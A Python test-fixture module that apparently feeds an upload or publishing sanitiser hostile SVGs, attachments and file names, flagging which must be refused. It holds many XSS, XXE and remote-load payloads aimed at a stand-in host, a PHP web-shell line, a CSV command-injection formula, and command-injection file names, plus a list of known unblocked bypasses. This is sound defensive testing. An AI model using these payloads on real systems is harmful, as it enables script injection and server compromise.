"""Hostile files: drawings, what can be attached to a page, and names of files and folders."""

import gzip

OUT = "http://hostile.invalid/"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'


def svg(inner: str, attributes: str = "", before: str = "") -> bytes:
    return f'{before}<svg {NS} {attributes}><title>Hình</title>{inner}<rect width="9" height="9"/></svg>'.encode()


def gif() -> bytes:
    return bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


# What the tool does not refuse yet, though a browser obeys it; the check fails when one of them is refused.
KNOWN = {"image, /\\host", "@import, escaped", "url(), escaped", "image-set()", "x.xhtm"}

# Name, bytes, and whether it may never be published.
SVGS: list[tuple[str, bytes, bool]] = [
    ("script", svg("<script>alert(1)</script>"), True),
    ("script, CDATA", svg("<script><![CDATA[alert(1)]]></script>"), True),
    ("script, src", svg(f'<script href="{OUT}x.js"/>'), True),
    ("script, prefix", svg("<s:script>alert(1)</s:script>", 'xmlns:s="http://www.w3.org/2000/svg"'), True),
    ("script, UTF-16", ("\ufeff" + svg("<script>alert(1)</script>").decode()).encode("utf-16-le"), True),
    ("script, UTF-7", svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", before='<?xml version="1.0" encoding="UTF-7"?>'), False),
    ("script of XHTML", svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), True),
    ("comment, then script", svg("<!-- > --><script>alert(1)</script>"), True),
    ("CDATA, then script", svg("<desc><![CDATA[ ]]></desc><script>alert(1)</script>"), True),
    ("quoted >, then script", svg('<desc class="a>b"/><script>alert(1)</script>'), True),
    ("processing instruction with a comment's sign", svg("<?x <!-- ?><script>alert(1)</script><!-- -->"), True),
    ("declaration with a >", svg("<script>alert(1)</script>", before='<!DOCTYPE svg [<!ELEMENT x ANY>]>'), True),
    ("onload", svg("", 'onload="alert(1)"'), True),
    ("onload, single quotes", svg("", "onload='alert(1)'"), True),
    ("onload, spaces", svg("", 'onload \n=\t"alert(1)"'), True),
    ("onclick within", svg('<a><rect onclick="alert(1)" width="9" height="9"/></a>'), True),
    ("onbegin", svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'), True),
    ("onfocusin", svg('<g tabindex="1" onfocusin="alert(1)"/>'), True),
    ("foreignObject", svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'), True),
    ("HTML element", svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>'), True),
    ("iframe", svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{OUT}"/>'), True),
    ("use elsewhere", svg(f'<use href="{OUT}a.svg#x"/>'), True),
    ("use, data:", svg('<use href="data:image/svg+xml,&lt;svg/>#x"/>'), True),
    ("image elsewhere", svg(f'<image href="{OUT}a.png" width="9" height="9"/>'), True),
    ("image, //host", svg('<image xlink:href="//hostile.invalid/a.png" width="9" height="9"/>'), True),
    ("image, /\\host", svg('<image href="/\\hostile.invalid/a.png" width="9" height="9"/>'), False),
    ("image, http:host", svg('<image href="ht&#116;p&#58;//hostile.invalid/a.png" width="9" height="9"/>'), True),
    ("image, tab in //", svg('<image href="/&#9;/hostile.invalid/a.png" width="9" height="9"/>'), True),
    ("image, data: SVG", svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)>" width="9" height="9"/>'), True),
    ("feImage", svg(f'<filter id="f"><feImage href="{OUT}a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'), True),
    ("a, javascript:", svg('<a href="javascript:alert(1)"><text y="9">x</text></a>'), True),
    ("a, java&#115;cript:", svg('<a xlink:href="java&#115;cript:alert(1)"><text y="9">x</text></a>'), True),
    ("a, java&#x0a;script:", svg('<a href="java&#x0a;script:alert(1)"><text y="9">x</text></a>'), True),
    ("a, &#x00000006A;", svg('<a href="&#x00000006A;avascript&#00058;alert(1)"><text y="9">x</text></a>'), True),
    ("animate href", svg('<a id="a"><animate attributeName="href" values="javascript:alert(1)"/></a>'), True),
    ("set href", svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>'), True),
    ("animate onload", svg('<set attributeName="onmouseover" to="alert(1)"/>'), True),
    ("entity", svg("&x;", before='<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>'), True),
    ("external entity", svg("&x;", before=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{OUT}">]>'), True),
    ("parameter entity", svg("", before=f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{OUT}"> %x;]>'), True),
    ("default attribute", svg("", before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'), True),
    ("style sheet of XML", svg("", before=f'<?xml-stylesheet href="{OUT}a.xsl" type="text/xsl"?>'), True),
    ("@import", svg(f"<style>@import '{OUT}a.css';</style>"), True),
    ("@import, CDATA", svg(f"<style><![CDATA[@import url({OUT}a.css);]]></style>"), True),
    ("@import, escaped", svg(f"<style>@\\69mport '{OUT}a.css';</style>"), False),
    ("url(), escaped", svg(f"<style>rect {{ fill: u\\72l({OUT}a.svg#x) }}</style>"), False),
    ("url() in style", svg(f"<style>rect {{ background: url({OUT}a.png) }}</style>"), True),
    ("image-set()", svg("<style>rect { background-image: image-set('http://hostile.invalid/a.png' 1x) }</style>"), False),
    ("url() in an attribute", svg(f'<rect style="fill:url({OUT}a.svg#x)" width="9" height="9"/>'), True),
    ("handler", svg("<handler type='application/ecmascript'>alert(1)</handler>"), True),
    ("HTML after the picture", svg("") + b"<script>alert(1)</script>", True),
    ("harmless", svg("<circle r='3'/>"), False),
]  # fmt: skip

PAGE = b"<!DOCTYPE html><title>x</title><script>alert(1);window.vxPwned=1</script>"
XHTML = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
PHP = b"<?php header('Location: http://hostile.invalid/'); system($_GET[0]);"
ATTACHED: list[tuple[str, bytes, bool]] = [
    *[(name, PAGE, True) for name in ("x.html", "x.htm", "X.HTML", "x.xhtml", "x.xht", "x.shtml", "x.mht", "x.hta", "x.svgz.html",
    "x.html.")],
    *[(name, XHTML, True) for name in ("x.xml", "x.xsl", "x.xslt")],
    *[(name, PHP, True) for name in ("x.php", "x.PHP", "x.php.txt", "x.phtml", "x.phar", "x.php5", "x.jsp", "x.aspx", "x.cgi",
    "x.pl", "x.py", "web.config", ".htaccess", ".user.ini")],
    ("x.svgz", gzip.compress(svg("<script>alert(1)</script>"), mtime=0), True),
    ("x.svg", svg("<script>alert(1)</script>"), True),
    ("x.SVG", svg("", 'onload="alert(1)"'), True),
    ("x.js", b"alert(1)", True),
    ("x.exe", b"MZ", True),
    ("khong-duoi", PAGE, False),
    ("x.unknown", PAGE, False),
    ("x.txt", PAGE, False),
    ("x.csv", b"=cmd|' /C calc'!A0," + PAGE, False),
    ("x.pdf", PAGE, False),
    ("x.png", PAGE, False),
    ("x.gif", b"GIF89a/*" + PAGE + b"*/=1;", False),
    ("x.jpg", XHTML, False),
    ("x.ics", b"BEGIN:VCALENDAR\r\nURL:javascript:alert(1)\r\nEND:VCALENDAR\r\n", False),
    ("x.json", b'{"a":"</script><script>alert(1)</script>"}', False),
    ("x.css", b"@import 'http://hostile.invalid/a.css';", False),
    ("x.md", PAGE, False),
    ("x.webmanifest", b'{"start_url":"javascript:alert(1)"}', False),
    ("x.html%00.txt", PAGE, False),
    ("x.txt.html ", PAGE, False),
    ("x.wasm", b"\0asm", False),
    ("x.xhtm", XHTML, False),
    ("x.rdf", XHTML, False),
    ("x.atom", XHTML, False),
    ("x.svg+xml", svg("<script>alert(1)</script>"), False),
    ("x.mathml", b'<math xmlns="http://www.w3.org/1998/Math/MathML"><maction href="javascript:alert(1)">x</maction></math>', False),
    ("x.vtt", b"WEBVTT\n\n00:00.000 --> 00:09.000\n<script>alert(1)</script>\n", False),
    ("x.eml", b"Content-Type: text/html\r\n\r\n" + PAGE, False),
]  # fmt: skip

# What may stand in a name on a disk, and would be something else in an address, a tag, a script or a server's rule.
NAMES = [
    '"><img src=x onerror=alert(1)>', "';alert(1);'", "javascript:alert(1)", "a&lt;script&gt;", "$(id)`id`", "{{title}}",
    "%3Cscript%3E", "..%2f..%2f", "a\nb", "a\\b", "\u202egpj", "a#b?c=d",
    "${uri}", "a; return 200 {} #", "con.", "-rf", ".an", "a\u0000b".replace("\u0000", "\u0001"),
]  # fmt: skip
